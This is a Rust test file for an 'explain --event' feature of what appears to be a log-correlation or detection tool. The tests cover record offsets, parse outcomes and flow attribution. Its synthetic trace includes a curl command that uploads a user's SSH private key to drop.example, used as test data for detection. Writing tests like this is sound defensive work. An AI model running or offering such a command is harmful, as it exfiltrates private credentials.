//! `explain --event`: what begins at a place, and what is told of it.

use std::fmt::Write as _;
use std::fs;

use crate::program::{Said, render, render_trace, run};

fn explain(log: &std::path::Path, offset: usize, folder: &std::path::Path) -> Said {
    run(&["explain", "--event", &format!("{}:{offset}", log.display()), folder.to_str().unwrap()])
}

#[test]
fn a_place_where_no_record_begins_is_an_error_that_names_the_nearest() {
    let folder = tempfile::tempdir().unwrap();
    render_trace("a42-old-connection-by-size", folder.path());
    let log = folder.path().join("mac1/es.ndjson");
    let text = fs::read_to_string(&log).unwrap();
    let second = text.find('\n').unwrap() + 1;
    let last = text.trim_end().rfind('\n').unwrap() + 1;
    for (offset, nearest) in [(second - 1, 0), (second + 7, second), (text.len(), last), (text.len() + 9_999, last)] {
        let said = explain(&log, offset, folder.path());
        assert_eq!((said.code, said.out.as_str()), (Some(2), ""), "{offset}: {}", said.err);
        let expected = format!("no record begins at {}:{offset}", log.display());
        assert!(said.err.contains(&expected), "{}", said.err);
        assert!(said.err.trim_end().ends_with(&format!("the nearest before it begins at {nearest}")), "{}", said.err);
    }
    let said = explain(&log, second, folder.path());
    assert_eq!(said.code, Some(0), "{}", said.err);
    assert!(said.out.contains("an endpoint event"), "{}", said.out);
    // A table begins with its header, which is no record.
    let said = explain(&folder.path().join("conn.log"), 0, folder.path());
    assert_eq!(said.code, Some(2));
    assert!(said.err.contains("nor anywhere before it"), "{}", said.err);
}

#[test]
fn the_fate_of_every_sort_of_record_is_told() {
    let folder = tempfile::tempdir().unwrap();
    render_trace("a42-old-connection-by-size", folder.path());
    let log = folder.path().join("more.log");
    // Three objects in one line, then text of no format: offsets counted by hand.
    let line = "{\"_path\":\"files\",\"ts\":1}{\"hello\":1} {\"_path\":\"weird\",\"ts\":1}\nDear diary\n";
    fs::write(&log, line).unwrap();
    let told = |offset| explain(&log, offset, folder.path());
    for (offset, expected) in [
        (0, "understood, and of no use"),
        (24, "not understood: unknown-format"),
        (36, "understood, and of no use"),
        (61, "not understood: malformed"),
    ] {
        let said = told(offset);
        assert_eq!(said.code, Some(0), "{offset}: {}", said.err);
        assert!(said.out.contains(expected), "{offset}: {}", said.out);
    }
    assert_eq!(told(35).code, Some(2), "the blank between two objects");
    let said = told(48);
    assert!(said.err.ends_with("begins at 36\n"), "{}", said.err);
}

/// One thief, and a Mac full of flows that have nothing to do with it.
fn busy(flows: usize) -> String {
    let mut trace = String::from(
        "host mac1\n\
         process zsh pid=400.20 parent=300.10 auid=501 platform com.apple.zsh /bin/zsh\n\
         process other pid=700.30 parent=1.1 auid=502 adhoc other /Applications/Other.app/Contents/MacOS/other\n\
         10:00:00 exec other adhoc other /Applications/Other.app/Contents/MacOS/other : other https://news.example/\n\
         10:00:01 fork zsh -> 500\n\
         10:00:01.1 exec 500 platform com.apple.curl /usr/bin/curl : curl -T /Users/ana/.ssh/id_rsa https://drop.example/\n\
         10:00:01.2 read 500 /Users/ana/.ssh/id_rsa size=400\n\
         10:00:02 flow Cthief 10.0.0.5:5000 -> 203.0.113.9:443 tcp for 1s out=4000 in=9 service=ssl\n\
         10:00:02.1 tls Cthief sni=drop.example\n\
         10:00:02.5 exit 500\n",
    );
    for n in 0..flows {
        let (minute, second) = (1 + n / 60, n % 60);
        writeln!(
            trace,
            "10:{minute:02}:{second:02} flow Cnews{n} 10.0.0.5:{} -> 203.0.113.80:443 tcp for 1s out=900 in=9 service=ssl",
            6000 + n
        )
        .unwrap();
        writeln!(trace, "10:{minute:02}:{second:02}.1 tls Cnews{n} sni=news.example").unwrap();
    }
    trace
}

#[test]
fn only_flows_that_the_record_could_feed_are_shown_and_the_others_counted() {
    let folder = tempfile::tempdir().unwrap();
    render(&busy(100), folder.path());
    let log = folder.path().join("mac1/es.ndjson");
    let text = fs::read_to_string(&log).unwrap();
    let offset_of = |part: &str| text.find(part).and_then(|at| text[..at].rfind('\n')).map_or(0, |at| at + 1);
    let said = explain(&log, offset_of("\"open\":"), folder.path());
    assert_eq!(said.code, Some(0), "{}", said.err);
    let flows: Vec<&str> = said.out.lines().filter(|line| line.starts_with("  flow ")).collect();
    assert_eq!(flows.len(), 1, "{}", said.out);
    assert!(flows[0].contains("Cthief") && flows[0].contains("also what this record brought"), "{}", flows[0]);
    assert!(said.out.contains("100 other flow(s) of this host: none given to this lineage"), "{}", said.out);
    // The other program's own record: its flows are many, and the list of them ends.
    let said = explain(&log, offset_of("news.example"), folder.path());
    let flows = said.out.lines().filter(|line| line.starts_with("  flow ")).count();
    assert_eq!(flows, 24, "{}", said.out);
    assert!(said.out.contains("and 76 more") && said.out.contains("1 other flow(s)"), "{}", said.out);
    // A row of a flow tells of that flow only.
    let conn = folder.path().join("conn.log");
    let rows = fs::read_to_string(&conn).unwrap();
    let at = rows.find("Cnews7\t").and_then(|at| rows[..at].rfind('\n')).unwrap() + 1;
    let said = explain(&conn, at, folder.path());
    let flows: Vec<&str> = said.out.lines().filter(|line| line.starts_with("  flow ")).collect();
    assert!(flows.len() == 1 && flows[0].contains("Cnews7 "), "{}", said.out);
}

#[test]
fn a_record_told_twice_says_which_one_counts() {
    let folder = tempfile::tempdir().unwrap();
    render_trace("a42-old-connection-by-size", folder.path());
    let log = folder.path().join("mac1/es.ndjson");
    let copy = folder.path().join("mac1/zz.ndjson");
    fs::copy(&log, &copy).unwrap();
    let said = explain(&copy, 0, folder.path());
    assert_eq!(said.code, Some(0), "{}", said.err);
    assert!(said.out.contains("the same record stands elsewhere"), "{}", said.out);
    assert!(!explain(&log, 0, folder.path()).out.contains("stands elsewhere"));
}
